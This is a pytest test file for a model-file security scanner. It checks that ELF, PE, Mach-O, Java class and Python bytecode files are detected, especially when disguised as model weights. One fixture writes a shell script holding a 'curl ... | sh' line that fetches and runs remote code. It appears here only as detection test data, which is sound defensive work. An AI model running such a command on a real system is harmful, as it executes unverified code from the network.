from __future__ import annotations

import importlib.util
import struct
import sys
from pathlib import Path

import pytest

from modelaudit.findings import FileStatus, IssueSeverity
from modelaudit.rules import data as rd
from tests.dataformats._dataformats_util import rules_of, scan


def _pe() -> bytes:
    head = bytearray(512)
    head[:2] = b"MZ"
    struct.pack_into("<I", head, 0x3C, 0x80)
    head[0x80:0x84] = b"PE\x00\x00"
    struct.pack_into("<H", head, 0x80 + 22, 0x2000)
    return bytes(head)


def test_real_elf_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "helper"
    path.write_bytes(Path(sys.executable).resolve().read_bytes()[:8192])
    result = scan(path)
    assert result.scanner_name == "executable"
    assert rd.EXECUTABLE_FILE in rules_of(result, IssueSeverity.WARNING)
    assert "ELF" in result.issues[0].message


def test_elf_named_like_weights_is_critical(tmp_path: Path) -> None:
    path = tmp_path / "pytorch_model.bin"
    path.write_bytes(Path(sys.executable).resolve().read_bytes()[:8192])
    assert rd.DISGUISED_EXECUTABLE in rules_of(scan(path), IssueSeverity.CRITICAL)


def test_pe_dll_and_shebang(tmp_path: Path) -> None:
    dll = tmp_path / "custom_op.dll"
    dll.write_bytes(_pe())
    result = scan(dll)
    assert "PE DLL" in result.issues[0].message
    script = tmp_path / "model.pt"
    script.write_bytes(b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n")
    assert rd.DISGUISED_EXECUTABLE in rules_of(scan(script), IssueSeverity.CRITICAL)


def test_mach_o_and_java_class(tmp_path: Path) -> None:
    macho = tmp_path / "lib"
    macho.write_bytes(b"\xcf\xfa\xed\xfe" + bytes(60))
    assert "Mach-O" in scan(macho).issues[0].message
    klass = tmp_path / "Loader"
    klass.write_bytes(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32))
    assert "Java class" in scan(klass).issues[0].message


def test_magic_without_a_valid_header_is_not_an_executable(tmp_path: Path) -> None:
    path = tmp_path / "blob"
    path.write_bytes(b"\x7fELF\x09\x09\x09" + bytes(64))
    result = scan(path)
    assert not rules_of(result, IssueSeverity.WARNING) - {""}
    assert not rules_of(result, IssueSeverity.CRITICAL)
    assert result.status is FileStatus.INCONCLUSIVE


def test_pe_named_like_weights_is_critical(tmp_path: Path) -> None:
    path = tmp_path / "pytorch_model.bin"
    path.write_bytes(_pe())
    result = scan(path)
    assert result.scanner_name == "executable"
    assert rd.DISGUISED_EXECUTABLE in rules_of(result, IssueSeverity.CRITICAL)


def _compiled(tmp_path: Path, mode: str, name: str) -> Path:
    """What `py_compile` writes for a harmless module (compiled, never imported)."""
    import py_compile

    source = tmp_path / "hubconf.py"
    source.write_text("def model():\n    return 1\n")
    out = tmp_path / name
    out.parent.mkdir(parents=True, exist_ok=True)
    py_compile.compile(
        str(source), cfile=str(out), invalidation_mode=py_compile.PycInvalidationMode[mode]
    )
    return out


@pytest.mark.parametrize(
    ("mode", "said"),
    [
        ("TIMESTAMP", "timestamp"),
        ("CHECKED_HASH", "checked source hash"),
        ("UNCHECKED_HASH", "unchecked source hash"),
    ],
)
def test_python_bytecode_is_executable_content(tmp_path: Path, mode: str, said: str) -> None:
    """A .pyc runs in place of its source when imported (torch.hub's hubconf, an MLflow code
    folder): it was an unknown file, skipped, and the run exit 0."""
    result = scan(_compiled(tmp_path, mode, "__pycache__/hubconf.cpython-311.pyc"))
    assert result.scanner_name == "executable"
    assert rd.EXECUTABLE_FILE in rules_of(result, IssueSeverity.WARNING)
    assert (
        f"bytecode (magic {importlib.util.MAGIC_NUMBER[0] | importlib.util.MAGIC_NUMBER[1] << 8}, {said})"
        in (result.issues[0].message)
    )


def test_bytecode_named_like_weights_or_in_an_archive(tmp_path: Path) -> None:
    import zipfile

    disguised = _compiled(tmp_path, "UNCHECKED_HASH", "pytorch_model.bin")
    assert rd.DISGUISED_EXECUTABLE in rules_of(scan(disguised), IssueSeverity.CRITICAL)
    archive = tmp_path / "repo.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.write(disguised, "repo/__pycache__/hubconf.cpython-311.pyc")
        z.writestr("repo/hubconf.py", "def model():\n    return 1\n")
    found = scan(archive)
    assert rd.EXECUTABLE_FILE in rules_of(found, IssueSeverity.WARNING)


def test_text_with_a_crlf_after_two_bytes_is_not_bytecode(tmp_path: Path) -> None:
    from modelaudit.formats.pyc import bytecode_kind

    for head in (b"ab\r\nsome notes\r\n" * 4, b"\xa7\x0d\r\n" + bytes(13) + b"x", b"\xa7\x0d\r\n"):
        assert bytecode_kind(head) is None
    notes = tmp_path / "notes"
    notes.write_bytes(b"ab\r\nsome notes\r\n" * 4)
    assert scan(notes).scanner_name != "executable"
